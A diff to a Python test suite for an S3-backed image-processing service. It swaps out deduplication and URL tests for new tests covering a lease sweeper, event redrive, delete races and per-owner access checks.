-def test_content_hash_is_recorded_and_searchable(client: Client, aws: Aws) -> None:
-    import hashlib
-
-    data = images.jpeg(500, 400)
-    first, second = upload_as(client, aws, data, "image/jpeg"), upload_as(client, aws, data, "image/jpeg")
-    other = upload_as(client, aws, images.jpeg(501, 400), "image/jpeg")
-    digest = hashlib.sha256(data).hexdigest()
-    assert record(client, first)["sha256"] == digest
-    found = json.loads(client.http.get(f"/images?sha256={digest}").body)["items"]
-    assert [item["id"] for item in found] == [second, first]
-    assert other not in {item["id"] for item in found}
-    assert json.loads(client.http.get(f"/images?sha256={digest}&status=failed").body)["items"] == []
-    assert client.http.get("/images?sha256=xyz").status_code == 400
+def test_the_sweeper_ends_work_stuck_past_its_lease_once(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    record = rig.record(image_id)
+    rig.records.save(record.claimed("h" * 32, event.etag, 5, rig.clock().timestamp() + 60, rig.clock()))
+    rig.clock.advance(60 + rig.settings.stuck_after_seconds - 1)
+    assert rig.processor.sweep(Deadline(60))["failed"] == 0
+    rig.clock.advance(2)
+    assert rig.processor.sweep(Deadline(60))["failed"] == 1
+    assert rig.processor.sweep(Deadline(60))["failed"] == 0
+    assert rig.record(image_id).error.code == "processing_error" and len(rig.notifier.published) == 1
 
 
-def test_dedupe_copies_outputs_server_side(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("DEDUPE", "true")
-    services.reset()
-    data = images.jpeg(900, 600)
-    first = upload_as(client, aws, data, "image/jpeg")
-    calls: dict[str, int] = {}
-    for operation in ("PutObject", "CopyObject"):
-        count_calls(services.s3(), operation, calls)
-    second = upload_as(client, aws, data, "image/jpeg")
-    assert calls == {"CopyObject": 2}  # no PutObject: nothing was decoded or encoded
-    twin, copy = record(client, first), record(client, second)
-    assert copy["status"] == "done" and copy["deduplicated_from"] == first
-    assert {n: (o["width"], o["bytes"]) for n, o in copy["outputs"].items()} == {
-        n: (o["width"], o["bytes"]) for n, o in twin["outputs"].items()
-    }
-    assert copy["outputs"]["web"]["key"] == f"processed/{second}/web.webp"
-    copied = aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{second}/web.webp")
-    assert (
-        copied["ContentType"] == "image/webp"
-        and copied["Body"].read()
-        == aws.s3.get_object(Bucket=ENV["OUTPUT_BUCKET"], Key=f"processed/{first}/web.webp")["Body"].read()
-    )
-    other_profile = record(client, upload_as(client, aws, data, "image/jpeg", profile="thumbnail200"))
-    assert other_profile.get("deduplicated_from") is None
-    messages = aws.notifications()
-    assert [m["id"] for m in messages].count(second) == 1
-    assert next(m for m in messages if m["id"] == second)["deduplicated_from"] == first
+def test_the_sweeper_redrives_a_missing_event_once_then_gives_up(rig: Rig) -> None:
+    uploaded, unused = rig.new_image(), rig.new_image()
+    rig.upload(uploaded, b"photo")  # S3 took the upload; its event never came
+    rig.clock.advance(rig.settings.redrive_after_seconds + 1)
+    assert rig.processor.sweep(Deadline(60))["redriven"] == 1
+    assert rig.store.redriven == [(INPUT, rig.settings.upload_key(uploaded))]
+    assert rig.processor.sweep(Deadline(60))["redriven"] == 0
+    rig.clock.advance(rig.settings.stuck_after_seconds + 1)
+    assert rig.processor.sweep(Deadline(60))["failed"] == 1
+    assert rig.record(uploaded).error.message == "No S3 event arrived for the upload."
+    assert rig.record(unused).status == Status.PENDING  # never uploaded: left to expire
 
 
-def test_stable_output_urls_and_markup(client: Client, aws: Aws, monkeypatch: pytest.MonkeyPatch) -> None:
-    image_id = upload_as(client, aws, images.jpeg(3000, 2000), "image/jpeg")
-    signed = record(client, image_id)
-    assert "X-Amz-Signature" in signed["outputs"]["web"]["url"]
-    monkeypatch.setenv("OUTPUT_BASE_URL", "https://cdn.example.com/")
-    services.reset()
-    first, again = record(client, image_id), record(client, image_id)
-    web, thumb = first["outputs"]["web"], first["outputs"]["thumb"]
-    assert web["url"] == f"https://cdn.example.com/processed/{image_id}/web.webp" == again["outputs"]["web"]["url"]
-    assert first["markup"] == {
-        "width": 2048,
-        "height": 1365,
-        "srcset": {"webp": f"{thumb['url']} 320w, {web['url']} 2048w"},
-    }
+def test_a_redriven_event_completes_the_upload(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    rig.store.on_redrive = lambda bucket, key: rig.deliver(event)
+    rig.clock.advance(rig.settings.redrive_after_seconds + 1)
+    rig.processor.sweep(Deadline(60))
+    assert rig.record(image_id).status == Status.DONE and len(rig.notifier.published) == 1
 
 
-def test_done_images_carry_placeholders_from_the_smallest_variant(client: Client, aws: Aws) -> None:
-    image_id = upload_as(client, aws, images.jpeg(1600, 1200), "image/jpeg")
-    placeholders = record(client, image_id)["placeholders"]
-    assert set(placeholders) == {"thumbhash", "blurhash", "dominant_color", "lqip"}
-    assert len(placeholders["blurhash"]) == 4 + 2 * 4 * 3  # 4x3 components by default
-    assert placeholders["lqip"].startswith("data:image/webp;base64,") and len(placeholders["lqip"]) <= 1024
-    [message] = aws.notifications()
-    assert message["placeholders"] == placeholders
-    failed = record(client, upload_as(client, aws, b"not an image", "image/png"))
-    assert failed["placeholders"] is None
+# -- DELETE racing the pipeline ------------------------------------------------------------------
+
+
+def delete(rig: Rig, image_id: str, owner: str = "alice") -> None:
+    delete_image(image_id, Viewer(owner), rig.records, rig.store, rig.settings, rig.clock, sleep=lambda _: None)
+
+
+def test_a_delete_during_processing_leaves_no_output_and_no_message(rig: Rig) -> None:
+    image_id = rig.new_image()
+
+    def render_then_deleted(data: bytes, variants: Sequence[VariantSpec], settings: ImagingSettings) -> Rendering:
+        delete(rig, image_id)
+        return fake_render(data, variants, settings)
+
+    rig.render = render_then_deleted
+    assert rig.deliver(rig.upload(image_id, b"photo")) == "superseded"
+    assert rig.outputs() == [] and rig.store.keys(INPUT) == [] and rig.notifier.published == []
+    with pytest.raises(NotFound):
+        get_record(image_id, Viewer("alice"), rig.records)
+
+
+def test_a_delete_waits_for_an_outcome_being_published(rig: Rig) -> None:
+    image_id = rig.new_image()
+    event = rig.upload(image_id, b"photo")
+    order: list[str] = []
+    publish = rig.notifier.publish
+
+    def publish_then_note(record: ImageRecord) -> str:
+        order.append("published")
+        return publish(record)
+
+    rig.notifier.publish = publish_then_note  # type: ignore[method-assign]
+    rig.notifier.fail_next("publish")
+    with pytest.raises(InjectedFault):
+        rig.deliver(event)  # done, but its publish failed: the lease was given back
+    record = rig.record(image_id)
+    rig.records.save(record.leased(rig.clock().timestamp() + 30, rig.clock()))  # a retry is publishing now
+    with pytest.raises(Busy):
+        delete_image(
+            image_id, Viewer("alice"), rig.records, rig.store, rig.settings, rig.clock, time.sleep, patience=0.3
+        )
+    rig.clock.advance(31)
+    delete(rig, image_id)
+    assert rig.deliver(event) == "ignored" and "published" not in order[1:]
+
+
+def test_a_late_upload_to_a_deleted_slot_is_removed(rig: Rig) -> None:
+    image_id = rig.new_image()
+    delete(rig, image_id)
+    assert rig.deliver(rig.upload(image_id, b"photo")) == "ignored"
+    assert rig.store.keys(INPUT) == [] and rig.outputs() == [] and rig.notifier.published == []
+
+
+def test_a_delete_s3_refuses_is_a_503_that_a_retry_finishes(rig: Rig) -> None:
+    image_id = rig.new_image()
+    rig.deliver(rig.upload(image_id, b"photo"))
+    stubborn = next(iter(rig.record(image_id).outputs.values())).key
+    rig.store.keep.add(stubborn)
+    with pytest.raises(StorageError):
+        delete(rig, image_id)
+    assert rig.record(image_id).is_deleted  # the tombstone stays for the retry
+    rig.store.keep.clear()
+    with pytest.raises(NotFound):  # already deleted; what was left is removed all the same
+        delete(rig, image_id)
+    assert rig.outputs() == [] and rig.store.keys(INPUT) == []
+
+
+def test_another_owners_image_is_not_found_and_not_deleted(rig: Rig) -> None:
+    image_id = rig.new_image("alice")
+    for action in (lambda: get_record(image_id, Viewer("bob"), rig.records), lambda: delete(rig, image_id, "bob")):
+        with pytest.raises(NotFound):
+            action()
+    assert get_record(image_id, Viewer("root", is_admin=True), rig.records).id == image_id
